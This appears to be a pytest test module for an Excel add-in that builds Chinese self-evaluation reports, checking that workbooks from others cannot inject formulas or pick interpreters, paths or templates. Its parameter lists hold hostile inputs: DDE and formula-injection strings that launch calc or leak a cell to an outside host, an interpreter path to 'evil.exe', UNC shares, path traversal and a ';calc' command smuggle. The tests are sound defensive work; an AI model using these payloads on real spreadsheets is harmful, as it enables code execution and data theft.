"""A workbook from somebody else decides nothing: no program, no path, no formula comes out of it."""

from __future__ import annotations

from pathlib import Path
from types import SimpleNamespace

import pytest
import xlwings

from tests.excel.engine import App
from tests.excel.workbook import Book
from xl_addin.hosts import findings_sheet
from xl_addin.hosts.excel import local, templates
from xl_addin.hosts.excel.ribbon import press
from xl_addin.sheets import paper

SHEET = "自评表"
TEXTS = (
    '=HYPERLINK("http://x/?"&A1,"点这里")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3+cmd",
    "72%",
    "'quoted",
)


@pytest.mark.parametrize("text", TEXTS)
def test_text_of_a_sheet_is_never_written_as_a_formula(excel: App, henan: xlwings.Book, text: str) -> None:
    sheet = henan.impl.wb[SHEET]
    names = [cell for row in sheet.iter_rows() for cell in row if "开展监督检查" in str(cell.value or "")]
    place = names[0] if names else sheet["G20"]
    place._value, place.data_type = f"{text}", "s"
    sheet["A2"]._value, sheet["A2"].data_type = text, "s"
    excel.answers.append("no")
    for control in ("jxRecalc", "jxCheck", "jxFields"):
        press(control)
    books = [book.wb for book in excel.books.open_books]
    ours = [
        ws for book in books for ws in book.worksheets if ws.title in {paper.PAPER, "勾稽检查", "可用字段"}
    ]
    assert [ws.title for ws in ours] == [paper.PAPER, "勾稽检查", "可用字段"]
    held = [cell for ws in ours for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert not [cell for cell in held if cell.data_type == "f"]
    assert any(text in str(cell.value) for cell in held)


def test_a_configuration_sheet_and_a_web_address_choose_nothing(
    excel: App, henan: xlwings.Book, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    sheet = henan.impl.wb.create_sheet("jixiao.conf")
    for row, (key, value) in enumerate(
        {
            "INTERPRETER_WIN": "C:\\evil.exe",
            "PYTHONPATH": "\\\\host\\share",
            "ONEDRIVE_COMMERCIAL_WIN": "\\\\h\\s",
        }.items(),
        1,
    ):
        sheet.cell(row, 1, key)
        sheet.cell(row, 2, value)
    web = SimpleNamespace(Date1904=False, ProtectStructure=False, Path="https://example.org/共享")
    monkeypatch.setattr(Book, "api", property(lambda _: web))
    monkeypatch.setattr(Book, "fullname", property(lambda _: pytest.fail("the full name is looked up")))
    excel.answers.append("no")
    press("jxRecalc")
    excel.files.append(str(tmp_path / "报告.docx"))
    press("jxReport")
    assert excel.proposed == ["henan-department自评报告.docx"]
    assert not [alert for alert in excel.alerts if alert.mode == "critical"]


@pytest.mark.parametrize("path", ["\\\\host\\share\\模板.docx", "/nowhere/模板.docx"])
def test_a_template_that_was_not_chosen_here_is_asked_about_first(
    excel: App, henan: xlwings.Book, tmp_path: Path, path: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    if path.startswith("\\"):
        monkeypatch.setattr(Path, "is_absolute", lambda _: True)  # as on Windows
    henan.names["jx_template"] = f'="{path}"'
    out = tmp_path / "报告.docx"
    excel.answers.append("cancel")
    press("jxReport")
    assert path in excel.alerts[0].text
    assert not out.exists()
    excel.answers.append("no")
    excel.files.append(str(out))
    press("jxReport")
    assert out.exists()
    assert path not in local.known_templates()


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("x.docx")',
        "=自评表!$A$1",
        '="模板.docx"',
        '="http://x/模板.docx"',
        '="/tmp/模板.docm"',
        '="',
    ],
)
def test_what_is_no_path_of_a_template_is_ignored(henan: xlwings.Book, text: str) -> None:
    henan.names["jx_template"] = text
    assert templates.remembered(henan) == ""


def test_a_template_chosen_here_is_used_without_asking(
    excel: App, henan: xlwings.Book, tmp_path: Path
) -> None:
    mine = tmp_path / "我的模板.docx"
    mine.write_bytes((Path(__file__).parents[2] / "templates" / "henan-department.docx").read_bytes())
    excel.files.append(str(mine))
    press("jxTemplate")
    assert templates.remembered(henan) == str(mine)
    excel.files.append(str(tmp_path / "报告.docx"))
    press("jxReport")
    assert (tmp_path / "报告.docx").exists()
    excel.answers.append("no")
    press("jxTemplate")
    assert templates.remembered(henan) == ""
    assert "自带模板" in excel.alerts[-1].text


def test_a_file_that_is_no_template_is_not_remembered(
    excel: App, henan: xlwings.Book, tmp_path: Path
) -> None:
    bad = tmp_path / "坏.docx"
    bad.write_bytes(b"no Word file")
    excel.files.append(str(bad))
    press("jxTemplate")
    assert excel.alerts[-1].mode == "critical"
    assert templates.remembered(henan) == ""
    assert local.known_templates() == frozenset()


@pytest.mark.parametrize("item", ["../../evil", '="x"', "", "henan-department;calc"])
def test_only_a_standard_that_exists_can_be_chosen(excel: App, henan: xlwings.Book, item: str) -> None:
    before = str(henan.names["jx_standard"].refers_to)
    for control in ("jxNew", "jxMethod"):
        press(control, item)
        assert "JX" in excel.alerts[-1].text
        assert excel.alerts[-1].mode == "critical"
    assert henan.names["jx_standard"].refers_to == before


@pytest.mark.parametrize(
    ("name", "control"), [(paper.PAPER, "jxRecalc"), (findings_sheet.SHEET, "jxCheck")], ids=["底稿", "检查"]
)
def test_a_sheet_of_our_name_that_is_not_ours_stays(
    excel: App, henan: xlwings.Book, name: str, control: str
) -> None:
    henan.impl.wb.create_sheet(name)["A1"] = "我的记录"
    excel.answers.append("no")
    press(control)
    assert "不是本程序写的" in excel.alerts[-1].text
    assert henan.impl.wb[name]["A1"].value == "我的记录"
    assert henan.impl.wb[SHEET]["J9"].value == 0.72
